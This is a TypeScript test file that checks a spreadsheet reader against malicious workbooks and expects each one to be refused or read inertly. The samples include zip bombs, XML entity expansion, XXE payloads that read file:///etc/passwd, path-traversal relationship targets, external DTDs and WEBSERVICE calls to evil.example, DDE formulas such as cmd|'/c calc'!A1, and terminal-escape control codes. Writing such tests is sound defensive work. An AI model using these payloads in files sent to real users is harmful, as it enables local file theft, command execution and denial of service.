import { describe, expect, test } from 'vitest';
import { readRawWorkbook } from '../../electron/workbook/read/read-raw-workbook.ts';
import { openArchive } from '../../electron/workbook/zip/read-archive.ts';
import { writeArchive } from '../../electron/workbook/zip/write-archive.ts';
import { SheetView } from '../../shared/intake/foreign/sheet-view.ts';
import { packageOf } from '../electron/workbook/raw-package.ts';
import { must } from '../shared/plan/sample-plan.ts';

/**
 * Attack: a workbook that a colleague, or somebody in a colleague's name, sent. It is read as the officer opens it, in a
 * thread of the program: it must not fill the memory, take hours, reach another file, or become another text.
 */
const read = (parts: Parameters<typeof packageOf>[0]) => readRawWorkbook('gửi.xlsx', packageOf(parts));
const text = (address: string, shown: string): string =>
  `<c r="${address}" t="inlineStr"><is><t>${shown}</t></is></c>`;
const row = (...cells: readonly string[]): string =>
  `<sheetData><row r="1">${cells.join('')}</row></sheetData>`;
const refusal = (code: string) => ({ ok: false, refusal: { code } });

describe('a workbook that unpacks to more than it seems', () => {
  test('is refused by what its directory claims, before anything is unpacked', async () => {
    const zeros = { path: 'xl/workbook.xml', bytes: new Uint8Array(5_000_000) };
    const bomb = writeArchive([zeros, { path: '[Content_Types].xml', bytes: new Uint8Array() }]);
    expect(bomb.length).toBeLessThan(20_000);
    expect(await readRawWorkbook('a.xlsx', bomb)).toMatchObject(refusal('workbook.tooLarge'));
  });

  test('is damaged where it claims less than it holds', async () => {
    const bytes = packageOf({ sheet: row(text('A1', 'x'.repeat(20_000))) });
    const view = new DataView(bytes.buffer);
    for (let at = 0; at + 46 < bytes.length; at++) {
      if (view.getUint32(at, true) === 0x02014b50 && view.getUint32(at + 24, true) > 20_000)
        view.setUint32(at + 24, 20, true);
    }
    expect(await readRawWorkbook('a.xlsx', bytes)).toMatchObject(refusal('workbook.damaged'));
  });

  test('is damaged where one path stands twice, of which two readers would take two', () => {
    const file = (bytes: string) => ({ path: 'xl/workbook.xml', bytes: Buffer.from(bytes) });
    expect(openArchive(writeArchive([file('<a/>'), file('<b/>')]))).toMatchObject(
      refusal('workbook.damaged'),
    );
  });

  test('is refused where its cells show one long text a million times', async () => {
    const cells = Array.from(
      { length: 3_000 },
      (_, at) => `<row r="${at + 1}"><c r="A${at + 1}" t="s"><v>0</v></c></row>`,
    );
    // As unlike itself as a text must be for its archive to pass.
    const long = Array.from({ length: 3_200 }, (_, at) => (at * 2_654_435_761).toString(36)).join(' ');
    const texts = `<si><t>${long.slice(0, 30_000)}</t></si>`;
    const sheet = `<sheetData>${cells.join('')}</sheetData>`;
    expect(await read({ sheet, texts })).toMatchObject(refusal('workbook.tooLarge'));
    const [one] = must(
      await read({ sheet: `<sheetData>${cells.slice(0, 9).join('')}</sheetData>`, texts }),
    ).sheets;
    expect(one?.cells.has('A9')).toBe(true);
  });
});

describe('a workbook that asks for more steps than it has cells', () => {
  test('by columns beyond every sheet, or more often than a sheet has them, is damaged', async () => {
    for (const range of [
      'min="-2000000000" max="5"',
      'min="-Infinity" max="5"',
      'min="1" max="2000000000"',
    ]) {
      const sheet = `<cols><col ${range} hidden="1"/></cols>${row(text('A1', 'x'))}`;
      expect(await read({ sheet }), range).toMatchObject(refusal('workbook.damaged'));
    }
    const often = '<col min="1" max="16384" hidden="1"/>'.repeat(3);
    expect(await read({ sheet: `<cols>${often}</cols>` })).toMatchObject(refusal('workbook.damaged'));
  });

  test('by rows and columns that no sheet has is damaged', async () => {
    for (const at of ['1048577', '0', '-1', '1e9', 'Infinity']) {
      const sheet = `<sheetData><row r="${at}"><c r="A1"><v>1</v></c></row></sheetData>`;
      expect(await read({ sheet }), at).toMatchObject(refusal('workbook.damaged'));
    }
    expect(await read({ sheet: row('<c r="ZZZZ1"><v>1</v></c>') })).toMatchObject(
      refusal('workbook.damaged'),
    );
  });

  test('by merging whole columns again and again is looked at only where rows are', () => {
    const merges = Array.from({ length: 50_000 }, () => ({ top: 1, left: 1, bottom: 1_048_576, right: 2 }));
    const text = { value: { kind: 'text', text: 'Nội dung' }, isFormula: false } as const;
    const cells = new Map([
      ['A1', text],
      ['A1048576', text],
    ]);
    const none = new Set<number>();
    const sheet = { name: 'Biểu', hidden: false, cells, merges, hiddenRows: none, hiddenColumns: none };
    // Laid out by row this is fifty thousand million entries: the test would end the process, not fail slowly.
    expect(new SheetView(sheet).text(1_048_576, 2)).toBe('Nội dung');
  });
});

describe('a workbook that declares entities', () => {
  test.each([
    ['which expand without end', '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]>', '&c;'],
    ['which read a file of this computer', '<!DOCTYPE a [<!ENTITY c SYSTEM "file:///etc/passwd">]>', '&c;'],
    ['of somebody else', '<!DOCTYPE a PUBLIC "x" "http://evil.example/a.dtd">', 'x'],
  ])('%s is refused', async (_, prolog, shown) => {
    const got = await read({ prolog, sheet: row(text('A1', shown)) });
    expect(got).toMatchObject(refusal('workbook.entities'));
  });
});

describe('a workbook with parts outside of it', () => {
  test('by names that climb or lead elsewhere reaches none: a name is looked up, never opened', async () => {
    const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    for (const target of [
      '../../../../etc/passwd',
      '/etc/passwd',
      'file:///etc/passwd',
      'http://evil.example/a.xml',
    ]) {
      const files: Readonly<Record<string, string>> = {
        '[Content_Types].xml': '<Types/>',
        'xl/workbook.xml':
          '<workbook xmlns:r="r"><sheets><sheet name="Biểu" r:id="rId1"/></sheets></workbook>',
        'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="rId1" Type="${office}/worksheet" Target="${target}" TargetMode="External"/></Relationships>`,
        '../../evil.xml': '<worksheet/>',
      };
      const bytes = writeArchive(
        Object.entries(files).map(([path, xml]) => ({ path, bytes: Buffer.from(xml) })),
      );
      expect(await readRawWorkbook('a.xlsx', bytes), target).toMatchObject(refusal('workbook.damaged'));
    }
  });

  test('by links, macros and formulas that call out runs none of them: their stored results are read', async () => {
    const calls = [
      `<c r="A1" t="str"><f>WEBSERVICE("http://evil.example/")</f><v>kết quả</v></c>`,
      `<c r="B1" t="str"><f>cmd|'/c calc'!A1</f><v>0</v></c>`,
      `<c r="C1"><f>[1]Sheet1!A1</f><v>7</v></c>`,
      text('D1', '=cmd|&#39;/c calc&#39;!A1'),
    ];
    const [sheet] = must(await read({ sheet: row(...calls) })).sheets;
    expect(['A1', 'B1', 'C1', 'D1'].map((at) => sheet?.cells.get(at)?.value)).toEqual([
      { kind: 'text', text: 'kết quả' },
      { kind: 'text', text: '0' },
      { kind: 'number', number: 7 },
      { kind: 'text', text: "=cmd|'/c calc'!A1" },
    ]);
  });
});

test('a cell’s codes for what XML cannot carry do not become marks that hide or command', async () => {
  const [sheet] = must(await read({ sheet: row(text('A1', 'Dự án_x202E_005_x001B_[2J_x0000_')) })).sheets;
  expect(sheet?.cells.get('A1')?.value).toEqual({ kind: 'text', text: 'Dự án005[2J' });
});
